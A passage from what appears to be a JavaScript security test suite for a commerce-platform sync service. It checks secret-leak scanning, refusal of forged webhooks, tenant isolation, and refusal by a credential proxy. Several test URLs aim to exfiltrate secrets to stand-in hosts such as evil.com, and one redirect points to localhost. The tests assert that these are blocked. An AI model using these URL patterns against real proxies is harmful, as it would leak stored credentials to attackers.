        const s = await call('POST', `/api/connections/${c.id}/sync`, { body: { entity, mode: 'full' } });
        assert.equal(s.status, 202, `${p} ${entity}: ${s.text}`);
        const run = await waitRun(poll, s.json.run.id, 40_000);
        assert.equal(run.status, 'succeeded', `${p} ${entity}: ${JSON.stringify(run.error)}`);
        runs.push(run);
      }
    }));

    // Webhooks, signed as each platform signs them.
    const hookUrl = (p) => {
      const u = new URL(conns[p].webhookUrl);
      return u.pathname + u.search;
    };
    const deliver = async (p, body, headers) => {
      const r = await send(t.url, 'POST', hookUrl(p), { body, headers });
      record(`POST webhook ${p}`, r);
      return r;
    };
    const kvBody = fixture('kiotviet', 'webhook_product_update');
    assert.equal((await deliver('kiotviet', kvBody, { 'content-type': 'application/json', 'x-hub-signature': kiotvietSignature(kvBody, webhookSecrets.kiotviet) })).json.ok, true);
    for (const p of ['sapo', 'haravan']) {
      const sim = t.server.sandboxes[p].sim;
      const w = sim.webhook('products/update', sim.truth('products')[0].id);
      assert.equal((await deliver(p, w.body, w.headers)).status, 200, `${p} webhook`);
    }
    const nh = t.server.sandboxes.nhanh.sim;
    assert.ok((await nh.emitWebhook({ url: `${t.url}${hookUrl('nhanh')}`, event: 'productUpdate', id: nh.truth('products')[0].id })).status < 300);
    const pc = t.server.sandboxes.pancake.sim;
    assert.ok((await pc.emitWebhook({ url: `${t.url}${hookUrl('pancake')}`, entity: 'orders', id: pc.truth('orders')[0].id, headers: { 'x-webhook-secret': webhookSecrets.pancake } })).status < 300);
    // Rotation: the answer carries the new secret (let through), the old one is refused from then on.
    const rotated = await call('POST', `/api/connections/${conns.pancake.id}/webhook-secret`);
    assert.equal(rotated.status, 200, rotated.text);
    const oldPancake = webhookSecrets.pancake;
    webhookSecrets.pancake = pastedSecret(rotated.json.connection);
    assert.ok(webhookSecrets.pancake && webhookSecrets.pancake !== oldPancake);
    pancakeSecrets.add(webhookSecrets.pancake);
    const pcBody = fixture('pancake', 'webhook_order');
    const pcHeaders = (secret) => ({ 'content-type': 'application/json', 'x-store-id': conns.pancake.account.shopId, 'x-webhook-secret': secret });
    assert.equal((await deliver('pancake', pcBody, pcHeaders(oldPancake))).status, 401, 'the old Pancake POS secret is refused');
    assert.equal((await deliver('pancake', pcBody, pcHeaders(webhookSecrets.pancake))).status, 200, 'the new one is accepted');
    const gfForm = new URLSearchParams({ event: 'customer.deleted', secret_key: webhookSecrets.getfly, 'data[account_id]': String(t.server.sandboxes.getfly.sim.truth('customers')[0].id), domain: 'demo.getflycrm.com', uid: 'gf-uid-1' });
    assert.equal((await deliver('getfly', gfForm.toString(), { 'content-type': 'application/x-www-form-urlencoded' })).status, 200, 'getfly webhook');

    // Haravan's subscription handshake carries the verify token in its URL.
    assert.equal((await call('GET', '/webhooks/haravan?hub.mode=subscribe&hub.verify_token=hrv-verify-token-7f3a9c&hub.challenge=c-123')).text, 'c-123');

    // Errors: wrong credentials, a revoked token, bad signatures, proxy refusals.
    for (const p of Object.keys(conns)) {
      const info = PLATFORMS.get(p);
      const wrong = Object.fromEntries(info.credentials.filter((f) => f.secret).map((f) => [f.key, `wrong-${f.key}-0000`]));
      const r = await call(p === 'nhanh' ? 'POST' : 'PATCH', p === 'nhanh' ? `/api/connections/${conns[p].id}/verify` : `/api/connections/${conns[p].id}`, { body: p === 'nhanh' ? undefined : { credentials: { ...creds[p], ...wrong } } });
      if (p !== 'nhanh') assert.ok(r.status >= 400, `${p}: wrong credentials refused (${r.status})`);
      if (p !== 'nhanh') await call('PATCH', `/api/connections/${conns[p].id}`, { body: { credentials: { ...creds[p], ...(givenSecrets[p] ? { webhookSecret: givenSecrets[p] } : {}) } } });
    }
    nh.revokeTokens();
    const revoked = await waitRun(poll, (await call('POST', `/api/connections/${conns.nhanh.id}/sync`, { body: { entity: 'products' } })).json.run.id);
    assert.equal(revoked.status, 'failed');
    t.server.sandboxes.kiotviet.sim.expireTokens();
    assert.equal((await waitRun(poll, (await call('POST', `/api/connections/${conns.kiotviet.id}/sync`, { body: { entity: 'customers' } })).json.run.id)).status, 'succeeded');
    await deliver('kiotviet', kvBody.replace('d42dcce1', 'bad00001'), { 'content-type': 'application/json', 'x-hub-signature': kiotvietSignature(kvBody, 'not-the-secret') });
    await deliver('sapo', '{"id":1}', { 'content-type': 'application/json', 'x-sapo-topic': 'products/update', 'x-sapo-hmac-sha256': hmacBase64('forged', '{"id":1}'), 'x-sapo-shop-domain': 'demoshop.mysapo.net' });
    await deliver('getfly', gfForm.toString().replace(encodeURIComponent(webhookSecrets.getfly), 'guess'), { 'content-type': 'application/x-www-form-urlencoded' });
    assert.equal((await deliver('pancake', pcBody.replace('"shop_id"', '"note": "x", "shop_id"'), pcHeaders(oldPancake))).status, 401, 'still refused after a reconnect');
    for (const [p, url] of [['kiotviet', 'https://{{secret.clientSecret}}.evil.com/'], ['sapo', 'https://{{secret.apiSecret}}.mysapo.net.evil.com/'], ['haravan', 'https://apis.haravan.com.{{secret.accessToken}}.x/'], ['getfly', 'https://{{secret.apiKey}}.evil.com/'], ['misa', 'https://x.evil/?k={{secret.secretKey}}']]) {
      const r = await call('POST', `/api/proxy/${conns[p].id}`, { body: { method: 'GET', url, query: [], headers: [], body: '' } });
      assert.equal(r.status, 403, `${p}: ${r.text}`);
    }
    // A sync that ends on a proxy refusal logs its error too.
    t.server.sandboxes.kiotviet.sim.failNext([{ status: 302, headers: { location: 'http://127.0.0.1:9/' } }]);
    await waitRun(poll, (await call('POST', `/api/connections/${conns.kiotviet.id}/sync`, { body: { entity: 'locations' } })).json.run.id);

    // Everything the page can read.
    await eventually(async () => (await poll.get('/api/events?status=received')).body.events.length === 0, { message: 'webhooks processed' });
    for (const path of ['/api/me', '/api/platforms', '/api/health', '/api/connections', '/api/records/counts']) await call('GET', path);
    for (const c of (await call('GET', '/api/connections')).json.connections) await call('GET', `/api/connections/${c.id}`);
    for (const kind of ['runs', 'events', 'records']) {
      let cursor = null;
      do {
        const r = await call('GET', `/api/${kind}?limit=500${kind === 'records' ? '&deleted=any' : ''}${cursor ? `&cursor=${encodeURIComponent(cursor)}` : ''}`);
        for (const item of r.json[kind]) if (kind !== 'records') await call('GET', `/api/${kind}/${item.id}`);
        cursor = r.json.nextCursor;
      } while (cursor);
    }
    for (const format of ['csv', 'ndjson']) await call('GET', `/api/records/export?format=${format}&deleted=any`);
    await new Promise((r) => setTimeout(r, 100));
    ac.abort();
    await reading;
    seen.push(`SSE ${scannedStream(streamed, pasted)}`);
    for (const r of poll.seen) seen.push(scanned(`${r.method} ${r.path}`, r, pasted));

    // Every secret value of the run: credentials, tokens the simulators issued and the proxy
    // kept, webhook secrets, app secrets, the vault key, store tokens.
    const secretSet = new Map(); // value → where it comes from (the names are printed, never the values)
    const add = (v, name) => {
      if (typeof v === 'string' && v.length >= 8 && !secretSet.has(v)) secretSet.set(v, name);
    };
    for (const p of Object.keys(conns)) {
      const info = PLATFORMS.get(p);
      const plain = new Set(info.credentials.filter((f) => !f.secret).map((f) => f.key));
      for (const f of info.credentials) if (f.secret) add(creds[p][f.key], `${p}.${f.key}`);
      const row = await t.server.repo.connections.get(t.server.demo.store.id, conns[p].id);
      for (const [k, v] of Object.entries(t.server.services.secretsOf(row))) if (!plain.has(k) && !['companyCode', 'environment'].includes(k)) add(v, `${p}.vault.${k}`);
      add(webhookSecrets[p], `${p}.webhookSecret`);
    }
    for (const v of pancakeSecrets) add(v, 'pancake.webhookSecret (current and rotated out)');
    for (const p of ['sapo', 'haravan']) for (const [k, v] of Object.entries(t.server.sandboxes[p].sim.info().credentials ?? {})) if (!['store', 'shop'].includes(k)) add(v, `${p}.sim.${k}`);
    add(nh.info().accessToken, 'nhanh.sim.readyToken');
    add(nh.info().verifyToken, 'nhanh.sim.verifyToken');
    add('hrv-verify-token-7f3a9c', 'haravan.verifyToken');
    add(t.vaultKey.toString('hex'), 'vaultKey.hex');
    add(t.vaultKey.toString('base64'), 'vaultKey.base64');
    add('demo-token', 'store token');
    const secretList = [...secretSet.keys()];
    tc.diagnostic(`secrets collected: ${[...secretSet.values()].join(', ')}`);
    // At rest and in what the store keeps: records, events, runs, checkpoints (ciphertext for connections).
    const tables = {};
    for (const name of ['records', 'events', 'runs', 'connections', 'checkpoints']) tables[name] = (await t.server.db.all(`SELECT * FROM ${name}`)).map((r) => JSON.stringify(r));
    const logs = t.logs.lines;
    const leaks = leaksIn(secretList, [
      ...seen.map((r) => ['response', r]),
      ...logs.map((l) => ['log', l]),
      ...Object.entries(tables).flatMap(([name, rows]) => rows.map((row) => [name, row])),
    ]);
    // What was let through: the Pancake POS connection's own webhook secret, and only that.
    tc.diagnostic(`secrets: the pasted webhook header was let through ${pasted.length} times (connection views and the rotate answer)`);
    assert.ok(pasted.length >= 3, 'the scan saw the pasted header where the page must see it');
    assert.deepEqual(wronglyPasted(pasted, new Map([[conns.pancake.id, pancakeSecrets], [conns.getfly.id, new Set([webhookSecrets.getfly])]])), []);
    const records = tables.records.length;
    tc.diagnostic(`secrets: ${secretList.length} secret values (×4 forms) over ${seen.length} responses (${Math.round(seen.reduce((n, s) => n + s.length, 0) / 1024)} KiB incl. SSE and exports), ${logs.length} log lines, ${records} records, ${tables.events.length} events, ${tables.runs.length} runs; ${runs.length} sync runs on ${Object.keys(conns).length} platforms; leaks ${leaks.length}`);
    assert.ok(secretList.length >= 20, `enough secrets collected (${secretList.length})`);
    assert.ok(records > 100 && logs.length > 100 && seen.length > 100);
    assert.ok(logs.some((l) => l.includes('sync run failed')) && logs.some((l) => l.includes('webhook rejected')), 'errors were provoked and logged');
    assert.deepEqual(leaks, []);
  });
});

// --- 3. webhooks ------------------------------------------------------------------------------
const HOOK_PLATFORMS = ['kiotviet', 'sapo', 'haravan', 'nhanh', 'pancake', 'getfly'];
for (const backend of BACKENDS) {
  describe(`webhooks and stores, counted (${backend})`, () => {
    let t;
    let a;
    let storeB;
    const secrets = {
      kiotviet: Buffer.from('kv-webhook-secret-2026').toString('base64'),
      sapo: null, // Sapo signs with the app's secret (apiSecret)
      haravan: 'hrv-auth-string-2026',
      nhanh: 'nhanhVerifyToken2026',
      pancake: 'pc-secret-header-2026',
      getfly: 'gf-secret-key-2026',
    };
    const conns = {};
    before(async () => {
      t = await startServer(backend, {
        webhookBodyLimit: 64 * 1024,
        sandboxes: ['kiotviet'],
        sandboxOptions: { kiotviet: { counts: { products: 10, customers: 12, orders: 10, invoices: 4 } } },
      });
      a = t.api();
      storeB = await createStore(t.server, 'Cửa hàng B');
      const store = t.server.demo.store;
      const plant = async (platform, account, sec, storeKey) => {
        const id = `cn_${platform}_${randomBytes(3).toString('hex')}`;
        await t.server.repo.connections.insert({
          id, storeId: store.id, platform, name: platform, status: 'active', settings: {}, account,
          secretsEnc: t.server.vault.seal(sec, id), secretsSet: Object.keys(sec), storeKey,
        });
        return id;
      };
      conns.kiotviet = (await a.post('/api/connections', { platform: 'kiotviet', credentials: kiotvietCredentials(t.server, { webhookSecret: secrets.kiotviet }) })).body.connection.id;
      conns.sapo = await plant('sapo', { store: 'hoamai' }, { apiKey: 'k', apiSecret: 'sapo-app-secret-2026' }, 'hoamai.mysapo.net');
      conns.haravan = await plant('haravan', { shop: 'hoamai' }, { accessToken: 't', webhookSecret: secrets.haravan }, '200000123');
      conns.nhanh = await plant('nhanh', { businessId: '110668' }, { accessToken: 't', webhookSecret: secrets.nhanh }, '110668');
      conns.pancake = await plant('pancake', { shopId: '1234567' }, { apiKey: 'k', shopId: '1234567', webhookSecret: secrets.pancake }, '1234567');
      conns.getfly = await plant('getfly', { domain: 'hoamai.getflycrm.com' }, { apiKey: 'k', webhookSecret: secrets.getfly }, 'hoamai.getflycrm.com');
      secrets.sapo = 'sapo-app-secret-2026';
    });
    after(() => t?.close());

    // One valid delivery per platform: body, headers (signed with `key`).
    const deliveries = {
      kiotviet: (key, n = 1) => {
        const body = fixture('kiotviet', 'webhook_product_update').replace('d42dcce1', `d42d${String(n).padStart(4, '0')}`);
        return { body, headers: { 'content-type': 'application/json', 'x-hub-signature': kiotvietSignature(body, key) } };
      },
      sapo: (key, n = 1) => {
        const body = JSON.stringify({ id: 9000 + n, name: `Sản phẩm ${n}`, variants: [{ id: 19000 + n, sku: `SKU${n}`, price: 1000 }], updated_on: '2026-01-01T00:00:00Z', created_on: '2026-01-01T00:00:00Z' });
        return { body, headers: { 'content-type': 'application/json', 'x-sapo-topic': 'products/update', 'x-sapo-hmac-sha256': hmacBase64(key, body), 'x-sapo-shop-domain': 'hoamai.mysapo.net', 'x-sapo-webhook-id': `sp-${n}` } };
      },
      haravan: (key, n = 1) => {
        const body = JSON.stringify({ id: 8000 + n, title: `Sản phẩm ${n}`, variants: [{ id: 18000 + n, sku: `HSKU${n}`, price: 1000 }], updated_at: '2026-01-01T00:00:00Z', created_at: '2026-01-01T00:00:00Z' });
        return { body, headers: { 'content-type': 'application/json', 'x-haravan-topic': 'products/update', 'x-haravan-hmacsha256': hmacBase64(key, body), 'x-haravan-org-id': '200000123', 'x-haravan-webhook-id': `hv-${n}` } };
      },
      nhanh: (key, n = 1) => {
        const body = JSON.stringify({ event: 'productDelete', businessId: 110668, data: [7000 + n] });
        return { body, headers: { 'content-type': 'application/json', authorization: key } };
      },
      pancake: (key, n = 1) => {
        const body = fixture('pancake', 'webhook_order').replace(/"updated_at":\s*"[^"]*"/, `"updated_at": "2026-01-01T00:00:${String(n % 60).padStart(2, '0')}"`);
        return { body, headers: { 'content-type': 'application/json', 'x-store-id': '1234567', 'x-webhook-secret': key } };
      },
      getfly: (key, n = 1) => {
        const body = new URLSearchParams({ event: 'customer.deleted', secret_key: key, 'data[account_id]': String(6000 + n), domain: 'hoamai.getflycrm.com', uid: `gf-${n}` }).toString();
        return { body, headers: { 'content-type': 'application/x-www-form-urlencoded' } };
      },
    };
    const post = (p, { body, headers }, query = `?connection=${conns[p]}`) => send(t.url, 'POST', `/webhooks/${p === 'pancake' ? 'pancakepos' : p}${query}`, { body, headers });
    // KiotViet is always answered 200 (it stops delivering after 4xx): its refusals say so in the body.
    const isRefusal = (p) => (r) => (p === 'kiotviet' ? r.status === 200 && r.json?.ok === false && !!r.json?.rejected?.code : r.status >= 400 && r.status < 500 && !!r.json?.error?.code);

    test('forged, missing and misplaced signatures, unknown stores, oversized and malformed bodies: refused with codes; replays applied once', async (tc) => {
      const tl = tally('webhooks');
      const codes = {};
      const refused = (p, label, r) => {
        tl.check(`${p}: ${label}`, r, isRefusal(p));
        const code = r.json?.rejected?.code ?? r.json?.error?.code;
        codes[code] = (codes[code] ?? 0) + 1;
      };
      let replays = 0;
      for (const p of HOOK_PLATFORMS) {
        const make = deliveries[p];
        // Control: the real delivery is accepted (so every refusal below is the attack's doing).
        const good = make(secrets[p], 1);
        const ok = await post(p, good);
        assert.equal(ok.status, 200, `${p}: ${ok.text}`);
        assert.equal(ok.json.ok, true, `${p}: ${ok.text}`);
        // Replay: the same delivery again, answered as a duplicate, stored once.
        const again = await post(p, good);
        assert.equal(again.json.duplicate, true, `${p} replay`);
        replays++;
        // Forgeries.
        const forged = make(`${secrets[p]}-wrong`, 2);
        refused(p, 'wrong secret', await post(p, forged));
        const stripped = make(secrets[p], 3);
        for (const h of ['x-hub-signature', 'x-sapo-hmac-sha256', 'x-haravan-hmacsha256', 'authorization', 'x-webhook-secret']) delete stripped.headers[h];
        if (p === 'getfly') stripped.body = stripped.body.replace(/secret_key=[^&]*&?/, '');
        refused(p, 'no signature', await post(p, stripped));
        const swapped = make(secrets[p], 4);
        const other = make(secrets[p], 5);
        if (p !== 'nhanh' && p !== 'pancake' && p !== 'getfly') refused(p, "another body's signature", await post(p, { body: other.body.replace(/5/g, '6'), headers: swapped.headers }));
        refused(p, 'empty-string secret', await post(p, make('', 7)));
        refused(p, 'secret prefix', await post(p, make(secrets[p].slice(0, -1), 8)));
        refused(p, "another platform's secret", await post(p, make(secrets[HOOK_PLATFORMS[(HOOK_PLATFORMS.indexOf(p) + 1) % HOOK_PLATFORMS.length]], 9)));
        // Unknown or wrong stores.
        refused(p, 'unknown connection', await post(p, make(secrets[p], 10), '?connection=cn_nope'));
        refused(p, "another platform's connection", await post(p, make(secrets[p], 11), `?connection=${conns[p === 'kiotviet' ? 'sapo' : 'kiotviet']}`));
        // Malformed and oversized.
        refused(p, 'empty body', await post(p, { body: '', headers: { 'content-type': 'application/json' } }));
        refused(p, 'not JSON', await post(p, { body: '{"id": 1, "oops"', headers: { ...good.headers } }));
        refused(p, 'oversized', await post(p, { body: JSON.stringify({ pad: 'x'.repeat(70 * 1024) }), headers: { ...good.headers } }));
      }
      // Routing by the store key a delivery carries: unknown keys.
      const kvUnknown = deliveries.kiotviet(secrets.kiotviet, 12);
      refused('kiotviet', 'unknown retailer', await post('kiotviet', { ...kvUnknown, body: kvUnknown.body.replace('product.update.744514', 'product.update.999999') }, ''));
      const pcUnknown = deliveries.pancake(secrets.pancake, 13);
      refused('pancake', 'unknown x-store-id', await post('pancake', { ...pcUnknown, headers: { ...pcUnknown.headers, 'x-store-id': 'unknown-shop' } }, ''));
      refused('pancake', 'another x-store-id', await post('pancake', { ...pcUnknown, headers: { ...pcUnknown.headers, 'x-store-id': '7654321' } }, ''));
      const sp = deliveries.sapo(secrets.sapo, 14);
      refused('sapo', 'unknown shop domain', await post('sapo', { ...sp, headers: { ...sp.headers, 'x-sapo-shop-domain': 'khac.mysapo.net' } }, ''));
      const hv = deliveries.haravan(secrets.haravan, 15);
      refused('haravan', 'unknown org id', await post('haravan', { ...hv, headers: { ...hv.headers, 'x-haravan-org-id': '999' } }, ''));
      const nhu = deliveries.nhanh(secrets.nhanh, 16);
      refused('nhanh', 'unknown businessId', await post('nhanh', { ...nhu, body: nhu.body.replace('110668', '999999') }, ''));
      tl.check('shopee: a platform without webhooks', await send(t.url, 'POST', '/webhooks/shopee', { body: '{}' }), (r) => r.status === 404);
      // Haravan's subscription handshake with a wrong verify token.
      const hs = await send(t.url, 'GET', '/webhooks/haravan?hub.mode=subscribe&hub.verify_token=wrong&hub.challenge=abc');
      tl.check('haravan: handshake with a wrong verify token', hs, (r) => r.status === 403);

      // Nothing forged was applied: each platform's accepted deliveries are exactly the controls.
      await eventually(async () => (await a.get('/api/events?status=received')).body.events.length === 0, { message: 'processed' });
      const events = [];
      let cursor = null;
      do {
        const r = await a.get(`/api/events?limit=500${cursor ? `&cursor=${encodeURIComponent(cursor)}` : ''}`);
        events.push(...r.body.events);
        cursor = r.body.nextCursor;
      } while (cursor);
      for (const p of HOOK_PLATFORMS) {
        const accepted = events.filter((e) => e.platform === p && e.status !== 'rejected');
        assert.equal(accepted.length, 1, `${p}: the control only, once (${accepted.map((e) => e.status).join(',')})`);
        assert.equal(accepted[0].signatureChecked, true, `${p}: verified`);
      }
      tc.diagnostic(`webhooks (${backend}): attempts ${tl.attempts}, refused ${tl.refused}, accepted forgeries ${tl.attempts - tl.refused}; replays ${replays}, applied once ${replays}; codes ${JSON.stringify(codes)}`);
      assert.deepEqual(tl.unexpected, []);
      assert.equal(tl.refused, tl.attempts);
      assert.ok(sameSecret('abc', 'abc') && !sameSecret('abc', 'abd') && !sameSecret('abc', 'abcd') && !sameSecret(undefined, 'abc'));
    });

    // --- 4. stores ---------------------------------------------------------------------------
    test("store B cannot read, change or delete store A's data through any documented operation", async (tc) => {
      const b = t.api(storeB.token);
      const connA = conns.kiotviet;
      const run = await waitRun(a, (await a.post(`/api/connections/${connA}/sync`, { entity: 'customers' })).body.run.id);
      assert.equal(run.status, 'succeeded');
      const browserRun = (await a.post('/api/runs', { connectionId: connA, entity: 'products' })).body.run;
      const eventA = (await a.get('/api/events')).body.events[0];
      const recordsA = (await a.get('/api/records?limit=500&deleted=any')).body;
      assert.ok(recordsA.total > 10 && eventA && browserRun.status === 'running');
      const idsA = [connA, run.id, browserRun.id, eventA.id, ...Object.values(conns)];
      // Customer names (B's own kiotviet connection, made below, shares the simulator's branches).
      const namesA = recordsA.records.filter((r) => r.type === 'customer').slice(0, 20).map((r) => r.name).filter((n) => n && n.length > 6);
      assert.ok(namesA.length > 5);
      const snapshot = async () => JSON.stringify({
        connections: (await a.get('/api/connections')).body.connections.map(({ entities: _e, ...c }) => c),
        records: (await a.get('/api/records?limit=500&deleted=any')).body,
        events: (await a.get('/api/events?limit=500')).body,
        runs: (await a.get(`/api/runs/${run.id}`)).body.run,
        browserRun: (await a.get(`/api/runs/${browserRun.id}`)).body.run,
      });
      const before = await snapshot();

      // Which of A's ids each path parameter takes; bodies that name A's ids.
      const idFor = (template) => {
        if (template.startsWith('/api/runs/')) return [run.id, browserRun.id];
        if (template.startsWith('/api/events/')) return [eventA.id];
        return Object.values(conns);
      };
      const bodies = {
        'post /api/connections': { platform: 'kiotviet', credentials: kiotvietCredentials(t.server), name: 'B' },
        'post /api/runs': { connectionId: connA, entity: 'products' },
        'post /api/records': { connectionId: connA, entity: 'customers', records: [{ type: 'customer', platform: 'kiotviet', externalId: recordsA.records[0]?.externalId ?? '1', updatedAt: '2030-01-01T00:00:00Z', deleted: true }], checkpoint: '{}' },
        'patch /api/connections/{id}': { name: 'stolen', settings: { entities: ['products'] } },
        'patch /api/runs/{id}': { status: 'failed', checkpoint: '{}' },
        'post /api/connections/{id}/sync': { entity: 'customers', mode: 'full' },
        'post /api/proxy/{id}': { method: 'GET', url: 'https://public.kiotapi.com/customers', query: [], headers: [['Retailer', '{{secret.retailer}}']], body: '' },
      };
      const queries = ['', `?connectionId=${connA}`, `?connectionId=${connA}&deleted=any&format=ndjson`, `?connectionId=${connA}&format=csv&deleted=any`];
      const tl = tally('stores');
      const ops = [];
      const streams = [];
      for (const [template, item] of Object.entries(spec.paths)) {
        for (const method of ['get', 'post', 'put', 'patch', 'delete']) {
          const op = item[method];
          if (!op) continue;
          const isPublic = Array.isArray(op.security) && op.security.length === 0;
          if (isPublic) continue; // no store token involved (health, platforms, webhooks, the OAuth return)
          ops.push(`${method} ${template}`);
          const paths = template.includes('{') ? idFor(template).map((id) => template.replace(/\{[^}]+\}/, id)) : method === 'get' ? queries.map((q) => template + q) : [template];
          for (const path of paths) {
            if (template === '/api/stream') {
              streams.push(path); // listened to last: A's activity meanwhile would change A's data
              continue;
            }
            const body = bodies[`${method} ${template}`] ?? (method === 'get' || method === 'delete' ? undefined : {});
            const r = await b.call(method.toUpperCase(), path, { body, headers: template.endsWith('/oauth/start') ? { accept: 'application/json' } : {} });
            const text = `${r.text} ${JSON.stringify(Object.fromEntries(r.headers))}`;
            // Refused outright (a 404 may repeat the id B sent), or answered with B's own view:
            // none of A's other ids, none of A's data.
            const named = `${path} ${JSON.stringify(body ?? '')}`;
            const clean = !idsA.some((id) => !named.includes(id) && text.includes(id)) && !namesA.some((n) => text.includes(n));
            tl.check(`${method.toUpperCase()} ${path}`, r, (x) => clean && (template.includes('{') ? x.status === 404 : x.status < 500));
          }
        }
      }
      const after = await snapshot();
      for (const path of streams) {
        const ac = new AbortController();
        const res = await fetch(`${t.url}${path}${path.includes('?') ? '&' : '?'}access_token=${storeB.token}`, { signal: ac.signal });
        const reader = res.body.getReader();
        const first = new TextDecoder().decode((await reader.read()).value);
        await a.post(`/api/connections/${connA}/verify`); // A's activity while B listens
        const more = await Promise.race([reader.read().then((x) => new TextDecoder().decode(x.value)), new Promise((r) => setTimeout(() => r(''), 200))]);
        ac.abort();
        const text = first + more;
        tl.check(`GET ${path}`, { status: res.status, text }, () => res.status === 200 && !idsA.some((id) => text.includes(id)));
      }
      tc.diagnostic(`stores (${backend}): ${ops.length} operations from openapi.json, attempts ${tl.attempts} with B's token on A's ids, refused or empty ${tl.refused}, A's data unchanged ${before === after}`);
      assert.deepEqual(tl.unexpected, []);
      assert.equal(tl.refused, tl.attempts);
      assert.equal(after, before, "A's connections, records, events and runs are unchanged");
      assert.ok(ops.length >= 15, `operations enumerated (${ops.length})`);
    });
  });
}
